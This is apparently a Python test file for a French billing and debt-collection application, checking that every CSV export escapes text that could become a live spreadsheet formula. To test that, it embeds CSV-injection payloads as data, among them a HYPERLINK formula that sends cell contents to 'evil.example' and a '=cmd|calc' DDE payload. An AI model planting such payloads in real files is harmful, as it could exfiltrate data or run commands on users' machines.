"""Every CSV the product writes opens safely in a spreadsheet: outside text never becomes a live formula.

One test per output through its real path, then a property: arbitrary text in every outside field of the
database gives, in every CSV output and both dialects, cells that are either numbers we typed or inert.
"""

from __future__ import annotations

import csv
import io
import re
import shutil
import tempfile
from dataclasses import replace
from datetime import date
from pathlib import Path

from click.testing import CliRunner
from hypothesis import HealthCheck, given, settings as hsettings, strategies as st
from sqlalchemy import text

from recouvrement.app.agency import export_agency
from recouvrement.app.balance import aged_balance, export_allocations, export_exceptions, write_balance_csv
from recouvrement.app.exports import export_payments, write_rejects
from recouvrement.app.imports import import_file
from recouvrement.app.nightly import run_nightly
from recouvrement.app.reconcile import run_reconcile
from recouvrement.app.remind import letter_id, write_manifest
from recouvrement.config import Paths
from recouvrement.db.models import SQLModel
from recouvrement.render.csvfile import EXCEL_FR, PLAIN
from recouvrement.rules import AgencyRules, Rules
from recouvrement.scanner import PrivacyLeak
from tests.app.world import INVOICE_HEADER, PAYMENT_HEADER, write

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
NUMBER_COLUMNS = {"amount", "remaining", "amount_due", "0-30", "31-60", "61-90", ">90", "total", "line",
                  "source_line", "level"}
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"Voir")'
RULES = replace(Rules(), agency=AgencyRules(allow_email=True, allow_phone=True))


def read(path: Path, dialect=PLAIN) -> list[list[str]]:
    data = path.read_bytes().decode(dialect.encoding)
    return list(csv.reader(io.StringIO(data, newline=""), delimiter=dialect.delimiter))


def is_number(cell: str, dialect=PLAIN) -> bool:
    return re.fullmatch(rf"-?\d+(?:{re.escape(dialect.decimal)}\d\d)?", cell) is not None or cell == ""


def is_inert(cell: str) -> bool:
    return not cell.startswith(TRIGGERS) and not cell.lstrip().startswith(TRIGGERS)


def assert_safe(rows: list[list[str]], dialect=PLAIN, expected_rows: int | None = None) -> None:
    header, *body = rows
    if expected_rows is not None:
        assert len(body) == expected_rows
    for row in body:
        assert len(row) == len(header)
        for column, cell in zip(header, row):
            assert is_number(cell, dialect) if column in NUMBER_COLUMNS else is_inert(cell), (column, cell)


def live_cells(path: Path, dialect=PLAIN) -> list[str]:
    return [cell for row in read(path, dialect)[1:] for cell in row if cell.startswith(TRIGGERS)]


# -- each output through its real path -----------------------------------------------------------------

def invoice(number: str, patient: str = "P1", last_name: str = "Martin", address: str = "5 rue Haute",
            phone: str = "", payer: str = "", amc: str = "0") -> str:
    patient_share = f"{150 - int(amc)},00"
    return (f"{number};10/01/2025;09/02/2025;{patient};{last_name};Claire;{address};75011;Paris;claire@example.org;"
            f"{phone};;150,00;0;{amc},00;{patient_share};{payer};none;;")


def test_outside_text_in_payments_is_inert_in_the_payments_allocations_and_exceptions_exports(engine, settings,
                                                                                              tmp_path):
    import_file(engine, write(tmp_path / "inv.csv", INVOICE_HEADER, [invoice("F2025-000301")]), settings)
    import_file(engine, write(tmp_path / "pay.csv", PAYMENT_HEADER, [
        f'PAY-1;01/02/2025;patient;"{FORMULA.replace(chr(34), chr(34) * 2)}";10,00;@SUM(1);F2025-000301;paid;',
        "-PAY-2;02/02/2025;patient;+33 6 12 34 56 78;7,00;-12,50;;paid;"]), settings)
    run_reconcile(engine)
    export_payments(engine, tmp_path / "payments.csv")
    export_allocations(engine, tmp_path / "allocations.csv")
    export_exceptions(engine, tmp_path / "exceptions.csv")
    payments = read(tmp_path / "payments.csv")
    assert_safe(payments, expected_rows=2)
    assert payments[1][3:6] == ["'" + FORMULA, "10.00", "'@SUM(1)"]
    assert payments[2][:6] == ["'-PAY-2", "2025-02-02", "patient", "'+33 6 12 34 56 78", "7.00", "'-12,50"]
    assert_safe(read(tmp_path / "allocations.csv"), expected_rows=1)
    exceptions = read(tmp_path / "exceptions.csv")
    assert_safe(exceptions, expected_rows=1)
    assert exceptions[1][0] == "'-PAY-2"


def test_a_mutuelle_named_like_a_formula_is_inert_in_the_balance(engine, settings, tmp_path):
    import_file(engine, write(tmp_path / "inv.csv", INVOICE_HEADER, [invoice("F2025-000301", amc="30",
                                                                             payer="=1+1")]), settings)
    write_balance_csv(aged_balance(engine, date(2025, 4, 20)), tmp_path / "balance.csv")
    rows = read(tmp_path / "balance.csv")
    assert_safe(rows)
    assert ["mutuelle", "'=1+1", "0.00", "0.00", "0.00", "30.00", "30.00"] in rows


def test_identity_and_contact_from_outside_are_inert_in_the_agency_file(engine, settings, tmp_path):
    from tests.app.test_agency import HANDOVER, letter
    import_file(engine, write(tmp_path / "inv.csv", INVOICE_HEADER, [
        invoice("F2025-000301", patient="-P1", last_name=f'"{FORMULA.replace(chr(34), chr(34) * 2)}"',
                address="@1 rue Haute", phone="+33 6 12 34 56 78")]), settings)
    letter(engine, "L3", date(2025, 4, 1), ["F2025-000301"], patient="-P1")
    export_agency(engine, None, HANDOVER, tmp_path / "agency.csv", rules=RULES)
    rows = read(tmp_path / "agency.csv")
    assert_safe(rows, expected_rows=1)
    row = dict(zip(rows[0], rows[1]))
    assert (row["patient_id"], row["last_name"], row["address"], row["phone"], row["amount_due"]) == (
        "'-P1", "'" + FORMULA, "'@1 rue Haute", "'+33612345678", "150.00")   # the phone stored in E.164 (issue #14)


def test_an_outside_patient_id_is_inert_in_the_reminders_manifest(engine, tmp_path):
    day = date(2025, 6, 2)
    with engine.begin() as conn:
        conn.execute(text("INSERT INTO letter (letter_id, patient_id, level, kind, channel, as_of, amount_cents, "
                          "sha256, file, status) VALUES (:l, '=cmd|calc', 1, 'relance_1', 'letter', :d, -500, "
                          "'x', 'x.html', 'written')"), {"l": letter_id(day, "=cmd|calc", 1), "d": day})
    rows = read(write_manifest(engine, day, tmp_path))
    assert_safe(rows, expected_rows=1)
    assert rows[1][1] == "'=cmd|calc" and rows[1][5] == "-5.00"  # our own negative amount stays a number


def test_file_names_and_echoed_cells_are_inert_in_the_nightly_rejects_report(engine, settings, tmp_path):
    paths = Paths(inbox=tmp_path / "inbox", archive=tmp_path / "archive", quarantine=tmp_path / "quarantine",
                  output=tmp_path / "out")
    paths.inbox.mkdir()
    write(paths.inbox / "=HYPERLINK(1).csv", INVOICE_HEADER, [invoice("F2025-000301"),
                                                               invoice("F2025-000302").replace("10/01/2025", "-2+3")])
    write(paths.inbox / "@evil.csv", "no;header;here", ["x;y;z"])
    run_nightly(engine, replace(settings, paths=paths), as_of=date(2025, 4, 20))
    reports = sorted(paths.archive.rglob("*.rejects.csv")) + sorted(paths.quarantine.rglob("*.rejects.csv"))
    assert len(reports) == 2
    for report in reports:
        rows = read(report)
        assert_safe(rows, expected_rows=1)
        assert rows[1][0].startswith("'")


def test_the_rejects_file_of_an_import_command_is_inert(tmp_path, monkeypatch):
    from recouvrement.cli import cli
    from recouvrement.cli import commands  # noqa: F401
    write(tmp_path / "@inv.csv", INVOICE_HEADER, [invoice("F2025-000301").replace("10/01/2025", "=1+1")])
    monkeypatch.chdir(tmp_path)  # default settings: no recouvrement.toml here
    result = CliRunner().invoke(cli, ["--db", f"sqlite:///{tmp_path / 'x.db'}", "import", "invoices", "@inv.csv",
                                      "--rejects", str(tmp_path / "rejects.csv")])
    assert result.exit_code == 1, result.output
    rows = read(tmp_path / "rejects.csv")
    assert_safe(rows, expected_rows=1)
    assert rows[1][:3] == ["'@inv.csv", "2", "issue_date"]


def test_export_format_excel_fr_writes_semicolons_decimal_commas_bom_and_crlf(engine, settings, tmp_path, db_url,
                                                                              monkeypatch):
    from recouvrement.cli import cli
    from recouvrement.cli import commands  # noqa: F401
    import_file(engine, write(tmp_path / "inv.csv", INVOICE_HEADER, [invoice("F2025-000301")]), settings)
    import_file(engine, write(tmp_path / "pay.csv", PAYMENT_HEADER, [
        "PAY-1;01/02/2025;patient;\"-Martin; Claire\";1234,56;virement;F2025-000301;paid;"]), settings)
    monkeypatch.chdir(tmp_path)
    result = CliRunner().invoke(cli, ["--db", db_url, "export", "payments", "--out", "p.csv", "--format", "excel-fr"])
    assert result.exit_code == 0, result.output
    data = (tmp_path / "p.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbfpayment_id;payment_date;") and data.count(b"\r\n") == 2
    assert read(tmp_path / "p.csv", EXCEL_FR)[1][:6] == ["PAY-1", "2025-02-01", "patient", "'-Martin; Claire",
                                                         "1234,56", "virement"]


# -- the property: arbitrary outside text, every CSV output ------------------------------------------------

# PostgreSQL stores no NUL in text; everything else goes, with a bias towards what starts a formula.
_any = st.text(st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=40)
outside = st.one_of(_any, st.builds(str.__add__, st.sampled_from(
    ["=", "+", "-", "@", "\t", "\r", " =", "\r\n+", "\u00a0-", "\u3000@", "\uff1d", '"', ";", ","]), _any))
# An invoice number must keep 1-21 letters or digits once punctuation is removed: outside text around them.
_punctuation = st.text(st.characters(blacklist_categories=("Cs", "Lu", "Ll", "Lt", "Lm", "Lo", "Nd"),
                                     blacklist_characters="\x00"), max_size=8)
invoice_numbers = st.builds(lambda a, b: a + "F2025-000301" + b, _punctuation, _punctuation)


@st.composite
def worlds(draw) -> dict:
    fields = ("patient_id", "last_name", "first_name", "address", "postal_code", "city", "email", "phone",
              "amc_payer", "payer_name", "reference", "source_file", "payer_name_2", "reference_2", "file",
              "reason")
    world = {name: draw(outside) for name in fields}
    world["patient_id"] = draw(outside.filter(bool))
    world["invoice_number"] = draw(invoice_numbers)
    world["payment_id"], world["payment_id_2"] = draw(st.lists(outside.filter(bool), min_size=2, max_size=2,
                                                               unique=True))
    world["dialect"] = draw(st.sampled_from([PLAIN, EXCEL_FR]))
    return world


def _store(conn, w: dict) -> None:
    conn.execute(text("INSERT INTO patient (patient_id, last_name, first_name, address, postal_code, city, email, "
                      "phone, coverage) VALUES (:patient_id, :last_name, :first_name, :address, :postal_code, "
                      ":city, :email, :phone, 'none')"), w)
    # The invoice handed over owes the patient's share only; the mutuelle's share awaited (which the aged
    # balance names) is on another invoice: an agency never takes an invoice still awaited from an insurer.
    conn.execute(text("INSERT INTO invoice (invoice_number, compact_number, patient_id, issue_date, due_date, "
                      "total_cents, amo_cents, amc_cents, patient_cents, amc_payer) VALUES (:invoice_number, "
                      "'F2025000301', :patient_id, '2025-01-10', '2025-02-09', 12000, 0, 0, 12000, :amc_payer)"), w)
    conn.execute(text("INSERT INTO invoice (invoice_number, compact_number, patient_id, issue_date, due_date, "
                      "total_cents, amo_cents, amc_cents, patient_cents, amc_payer) VALUES ('F2025-000302', "
                      "'F2025000302', :patient_id, '2025-01-10', '2025-02-09', 3000, 0, 3000, 0, :amc_payer)"), w)
    payments = [dict(w, p=w["payment_id"], n=w["payer_name"], r=w["reference"], a=1000),
                dict(w, p=w["payment_id_2"], n=w["payer_name_2"], r=w["reference_2"], a=500)]
    conn.execute(text("INSERT INTO payment (payment_id, payment_date, payer_type, payer_name, amount_cents, "
                      "reference, invoice_number, status, source_file, source_line, reconciled) VALUES (:p, "
                      "'2025-02-01', 'patient', :n, :a, :r, :invoice_number, 'paid', :source_file, 2, TRUE)"),
                 payments)
    conn.execute(text("INSERT INTO allocation (payment_id, invoice_number, payer_type, amount_cents, rule, "
                      "created_at, payment_date) VALUES (:payment_id, :invoice_number, 'patient', 1000, 'explicit', "
                      "'2025-02-02 00:00:00', (SELECT payment_date FROM payment WHERE payment_id = :of))"),
                 {**w, "of": w["payment_id"]})
    # Unmatched money in nobody's name (money waiting in the patient's own name keeps a case in the building).
    conn.execute(text("INSERT INTO payment_exception (payment_id, kind, remaining_cents, reason, patient_id) "
                      "VALUES (:payment_id_2, 'unmatched', 500, 'no invoice found', NULL)"), w)
    conn.execute(text("INSERT INTO letter (letter_id, patient_id, level, kind, channel, as_of, amount_cents, "
                      "sha256, file, status) VALUES (:l, :patient_id, 3, 'mise_en_demeure', 'letter', "
                      "'2025-04-01', 14000, 'x', 'x.html', 'sent')"), dict(w, l=letter_id(date(2025, 4, 1),
                                                                                            w["patient_id"], 3)))
    conn.execute(text("INSERT INTO letter_item (letter_id, invoice_number, amount_cents, level) VALUES (:l, "
                      ":invoice_number, 14000, 3)"), dict(w, l=letter_id(date(2025, 4, 1), w["patient_id"], 3)))


def _outputs(engine, w: dict, folder: Path) -> dict[str, int]:
    """Write every CSV output; the rows each must hold (a document the privacy scan refuses is not written)."""
    dialect = w["dialect"]
    writers = {
        "payments.csv": (lambda p: export_payments(engine, p, dialect), 2),
        "allocations.csv": (lambda p: export_allocations(engine, p, dialect), 1),
        "exceptions.csv": (lambda p: export_exceptions(engine, p, dialect), 1),
        "balance.csv": (lambda p: write_balance_csv(aged_balance(engine, date(2025, 4, 20)), p, dialect), 3),
        "agency.csv": (lambda p: export_agency(engine, None, date(2025, 4, 20), p, rules=RULES, dialect=dialect), 1),
        "manifest.csv": (lambda p: write_manifest(engine, date(2025, 4, 1), p.parent), 1),
        "rejects.csv": (lambda p: write_rejects(p, [(w["file"], 2, "issue_date", "not a date: " + w["reason"]),
                                                    (w["file"], "", "", w["reason"])]), 2),
    }
    written = {}
    for name, (write_it, rows) in writers.items():
        try:
            write_it(folder / name)
        except PrivacyLeak:
            assert not (folder / name).exists()
            continue
        written[name] = rows
    return written


def test_every_cell_of_every_csv_output_is_a_number_we_typed_or_inert_whatever_the_outside_text(db_url):
    from recouvrement.db.session import open_engine
    engine = open_engine(db_url)
    tables = [t.name for t in reversed(SQLModel.metadata.sorted_tables)]

    @hsettings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
    @given(worlds())
    def check(world):
        with engine.begin() as conn:
            for table in tables:
                conn.execute(text(f"DELETE FROM {table}"))
            _store(conn, world)
        folder = Path(tempfile.mkdtemp(prefix="csvsafe-"))
        try:
            for name, rows in _outputs(engine, world, folder).items():
                dialect = PLAIN if name in ("manifest.csv", "rejects.csv") else world["dialect"]
                assert_safe(read(folder / name, dialect), dialect, expected_rows=rows)
        finally:
            shutil.rmtree(folder)

    try:
        check()
    finally:
        engine.dispose()
